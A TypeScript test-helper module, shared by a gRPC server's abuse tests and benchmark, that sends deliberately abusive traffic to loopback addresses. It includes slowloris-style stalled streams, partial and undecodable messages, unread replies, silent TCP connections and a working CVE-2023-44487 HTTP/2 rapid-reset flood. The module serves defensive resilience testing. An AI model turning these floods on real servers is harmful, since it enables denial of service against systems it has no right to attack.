// What an attacker does to a gRPC server over raw HTTP/2 (node:http2) and raw
// TCP, where a gRPC client would never do it: streams that never finish their
// request, replies never read, connections that never speak, streams reset as
// soon as they open. Shared by test/server/abuse.test.ts (small scale) and
// bench/abuse.ts (full scale). Loopback addresses only.
import {
  connect as http2Connect,
  constants,
  type ClientHttp2Session,
  type ClientHttp2Stream,
  type OutgoingHttpHeaders,
} from 'node:http2';
import { connect as tcpConnect, type Socket } from 'node:net';
import { health, helloworld } from '../../src/proto.js';

export const SAY_HELLO = '/helloworld.Greeter/SayHello';
export const LOTS_OF_REPLIES = '/helloworld.Greeter/LotsOfReplies';
export const HEALTH_WATCH = '/grpc.health.v1.Health/Watch';

/** How a raw stream ended, as its client saw it. */
export interface StreamEnd {
  readonly grpcStatus?: number;
  readonly grpcMessage?: string;
  /** The HTTP/2 RST_STREAM code when the stream was reset without a gRPC status. */
  readonly rstCode?: number;
}

/** A gRPC length-prefixed message: flag byte, 4-byte length (`length`, which may promise more than `body` has), then `body`. */
export function grpcFrame(body: Buffer, { length = body.length, compressed = false } = {}): Buffer {
  const header = Buffer.alloc(5);
  header.writeUInt8(compressed ? 1 : 0, 0);
  header.writeUInt32BE(length, 1);
  return Buffer.concat([header, body]);
}

export function sayHelloRequest(name = 'attacker'): Buffer {
  return grpcFrame(helloworld.Greeter.service.SayHello.requestSerialize({ name }));
}

export function lotsOfRepliesRequest(count: number, responseSize: number): Buffer {
  return grpcFrame(helloworld.Greeter.service.LotsOfReplies.requestSerialize({ name: 'attacker', count, response_size: responseSize }));
}

export function healthWatchRequest(service = ''): Buffer {
  return grpcFrame(health.Health.service.Watch.requestSerialize({ service }));
}

export function grpcHeaders(path: string, extra: OutgoingHttpHeaders = {}): OutgoingHttpHeaders {
  return {
    [constants.HTTP2_HEADER_METHOD]: 'POST',
    [constants.HTTP2_HEADER_PATH]: path,
    [constants.HTTP2_HEADER_CONTENT_TYPE]: 'application/grpc',
    te: 'trailers',
    ...extra,
  };
}

/** One raw HTTP/2 connection (prior knowledge, h2c) to `address`. */
export function openSession(address: string): Promise<ClientHttp2Session> {
  return new Promise((resolve, reject) => {
    const session = http2Connect(`http://${address}`);
    session.once('connect', () => {
      session.off('error', reject);
      session.on('error', () => {});
      resolve(session);
    });
    session.once('error', reject);
  });
}

export interface RawStream {
  readonly stream: ClientHttp2Stream;
  /** Resolves when the stream has ended, with what the client saw. */
  readonly ended: Promise<StreamEnd>;
}

/**
 * Opens a gRPC stream on `session` and sends `body` (nothing when undefined), ending the request when `end`
 * says so. `read` false leaves replies unread, so the server's writes back up against flow control.
 */
export function openStream(
  session: ClientHttp2Session,
  path: string,
  body: Buffer | undefined,
  end: boolean,
  read = true,
  headers: OutgoingHttpHeaders = {},
): RawStream {
  const stream = session.request(grpcHeaders(path, headers), { endStream: end && body === undefined });
  const ended = new Promise<StreamEnd>((resolve) => {
    const seen: { grpcStatus?: number; grpcMessage?: string; rstCode?: number } = {};
    const take = (headers: Record<string, unknown>): void => {
      if (headers['grpc-status'] !== undefined) seen.grpcStatus = Number(headers['grpc-status']);
      if (headers['grpc-message'] !== undefined) seen.grpcMessage = decodeURIComponent(String(headers['grpc-message']));
    };
    stream.on('response', take);
    stream.on('trailers', take);
    stream.on('error', () => {});
    stream.on('close', () => {
      if (seen.grpcStatus === undefined) seen.rstCode = stream.rstCode;
      resolve(seen);
    });
  });
  if (read) stream.on('data', () => {});
  else stream.pause();
  if (body !== undefined) {
    if (end) stream.end(body);
    else stream.write(body);
  }
  return { stream, ended };
}

/** `count` streams spread over connections of at most `perConnection` streams each. */
export interface StreamFlood {
  readonly sessions: ClientHttp2Session[];
  readonly streams: RawStream[];
  close(): void;
}

export async function openStreams(
  address: string,
  count: number,
  perConnection: number,
  open: (session: ClientHttp2Session) => RawStream,
): Promise<StreamFlood> {
  const sessions: ClientHttp2Session[] = [];
  const streams: RawStream[] = [];
  for (let opened = 0; opened < count; ) {
    const session = await openSession(address);
    sessions.push(session);
    for (let i = 0; i < perConnection && opened < count; i += 1, opened += 1) streams.push(open(session));
  }
  return { sessions, streams, close: () => sessions.forEach((s) => s.destroy()) };
}

/** SayHello streams that send HEADERS and never a message: each would hold a call slot for ever. */
export function headersWithoutData(address: string, count: number, perConnection: number): Promise<StreamFlood> {
  return openStreams(address, count, perConnection, (session) => openStream(session, SAY_HELLO, undefined, false));
}

/** SayHello streams that promise a message of `claimedBytes` and send only `sentBytes` of it, never finishing. */
export function partialMessages(address: string, count: number, perConnection: number, claimedBytes: number, sentBytes: number): Promise<StreamFlood> {
  const partial = grpcFrame(Buffer.alloc(sentBytes, 0x61), { length: claimedBytes });
  return openStreams(address, count, perConnection, (session) => openStream(session, SAY_HELLO, partial, false));
}

/** LotsOfReplies streams asking for `count` replies of `responseSize` bytes, whose client never reads one. */
export function unreadReplies(address: string, count: number, perConnection: number, responseSize: number): Promise<StreamFlood> {
  const request = lotsOfRepliesRequest(1_000_000, responseSize);
  return openStreams(address, count, perConnection, (session) => openStream(session, LOTS_OF_REPLIES, request, true, false));
}

/** Health Watch streams, which never end by themselves. */
export function healthWatches(address: string, count: number, perConnection: number): Promise<StreamFlood> {
  const request = healthWatchRequest();
  return openStreams(address, count, perConnection, (session) => openStream(session, HEALTH_WATCH, request, true));
}

/** Bytes that no protobuf parser takes for a HelloRequest (a varint that never ends). */
export const UNDECODABLE = grpcFrame(Buffer.from([0xff, 0xff, 0xff, 0xff, 0x0f]));

/** SayHello streams whose one message cannot be decoded: grpc-js ends each before any handler. */
export function undecodableMessages(address: string, count: number, perConnection: number): Promise<StreamFlood> {
  return openStreams(address, count, perConnection, (session) => openStream(session, SAY_HELLO, UNDECODABLE, true));
}

/** TCP connections that never send the HTTP/2 preface; `closed` counts those the server has closed. */
export interface SilentConnections {
  readonly sockets: Socket[];
  closed(): number;
  close(): void;
}

export async function silentConnections(address: string, count: number): Promise<SilentConnections> {
  const port = Number(address.slice(address.lastIndexOf(':') + 1));
  const host = address.slice(0, address.lastIndexOf(':'));
  let closed = 0;
  const sockets = await Promise.all(
    Array.from(
      { length: count },
      () =>
        new Promise<Socket>((resolve, reject) => {
          const socket = tcpConnect(port, host, () => {
            socket.off('error', reject);
            socket.on('error', () => {});
            resolve(socket);
          });
          socket.once('error', reject);
          socket.on('data', () => {}); // read what the server sends (its SETTINGS, a PING, a GOAWAY), never answer
          socket.once('close', () => (closed += 1));
        }),
    ),
  );
  return { sockets, closed: () => closed, close: () => sockets.forEach((s) => s.destroy()) };
}

/**
 * Up to `count` SayHello streams opened and reset at once (HEADERS then RST_STREAM(CANCEL)) on `session`;
 * returns how many were sent before the session went away, if it did.
 */
export function resetBurst(session: ClientHttp2Session, count: number): number {
  let sent = 0;
  for (; sent < count && !session.closed && !session.destroyed; sent += 1) {
    try {
      const stream = session.request(grpcHeaders(SAY_HELLO), { endStream: false });
      stream.on('error', () => {});
      stream.close(constants.NGHTTP2_CANCEL);
    } catch {
      break; // the session went away under us
    }
  }
  return sent;
}

/** What a rapid-reset run did. */
export interface RapidResetRun {
  readonly resets: number;
  readonly connections: number;
  readonly goaways: number;
}

/**
 * CVE-2023-44487 ("rapid reset"): SayHello streams opened and reset at once (HEADERS then RST_STREAM), in
 * bursts of `burst` per event-loop turn, until `resets` have been sent; a connection the server GOAWAYs or
 * closes is replaced by a new one, as an attacker would. Each connection is left to the server to close.
 */
export async function rapidReset(address: string, resets: number, burst = 100): Promise<RapidResetRun & { sessions: ClientHttp2Session[] }> {
  const sessions: ClientHttp2Session[] = [];
  let sent = 0;
  let goaways = 0;
  let session: ClientHttp2Session | undefined;
  while (sent < resets) {
    if (session === undefined || session.closed || session.destroyed) {
      session = await openSession(address).catch(() => undefined);
      if (session === undefined) continue;
      sessions.push(session);
      session.once('goaway', () => (goaways += 1));
    }
    sent += resetBurst(session, Math.min(burst, resets - sent));
    await new Promise((resolve) => setImmediate(resolve));
  }
  return { resets: sent, connections: sessions.length, goaways, sessions };
}
